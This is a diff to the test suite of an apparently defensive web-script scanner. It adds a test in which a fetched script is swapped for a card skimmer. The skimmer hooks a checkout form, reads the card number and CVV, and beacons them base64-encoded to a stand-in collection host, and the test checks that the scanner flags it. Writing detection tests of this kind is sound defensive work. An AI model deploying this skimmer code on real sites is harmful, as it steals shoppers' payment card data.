@@ -163,6 +163,31 @@ describe('the scanner', () => {
     })
   })
 
+  test('a skimmer is malicious, with reasons and an event', async () => {
+    handler = send('var a = 1')
+    const id = await meet([urlOf('/a.js')])
+    await scanOnce()
+    expect(await explanation(id)).toMatchObject({ malicious: false, because: [], threshold: 10 })
+    app.clock.advance(DAY)
+    handler = send(`document.querySelector('#checkout').addEventListener('submit', function () {
+      var data = { number: document.getElementById('cc-number').value, cvv: document.getElementById('cvv').value }
+      new Image().src = 'https://collect.example.net/g.gif?d=' + btoa(JSON.stringify(data))
+    })`)
+    await scanOnce()
+    const told = await explanation(id)
+    expect(told).toMatchObject({ malicious: true, because: ['js_integrity_score'] })
+    expect(told['js_integrity_score']).toBeLessThan(10)
+    expect(told['reasons']).toContainEqual(expect.stringMatching(/^magecart_score: /))
+    expect(told['versions']).toMatchObject([
+      { reasons: told['reasons'] },
+      { js_integrity_score: expect.any(Number) },
+    ])
+    const events = await app.must<{ kind: string; resource_id: string }[]>('GET', own('/events'))
+    expect(events.filter(({ kind }) => kind === 'script.reported')).toMatchObject([{ resource_id: id }])
+    const [first] = await app.must<{ id: string }[]>('GET', path('/scripts?prioritize_malicious=true'))
+    expect(first).toMatchObject({ id, js_integrity_score: told['js_integrity_score'] })
+  })
+
   test('what is no script is compared octet by octet, and says so', async () => {
     handler = send('<!doctype html><p>hello')
     const id = await meet([urlOf('/a.js')])
@@ -171,7 +196,7 @@ describe('the scanner', () => {
     expect(await explanation(id)).toMatchObject({
       malicious: false,
       because: [],
-      reasons: [expect.stringMatching(/octet/)],
+      reasons: expect.arrayContaining([expect.stringMatching(/octet/)]),
     })
   })
 
@@ -185,7 +210,7 @@ describe('the scanner', () => {
     const marked = {
       hash: sha256(body),
       js_integrity_score: null,
-      reasons: [expect.stringMatching(/too long/)],
+      reasons: expect.arrayContaining([expect.stringMatching(/too long/)]),
     }
     expect(await explanation(id)).toMatchObject(marked)
     await scanning.close()
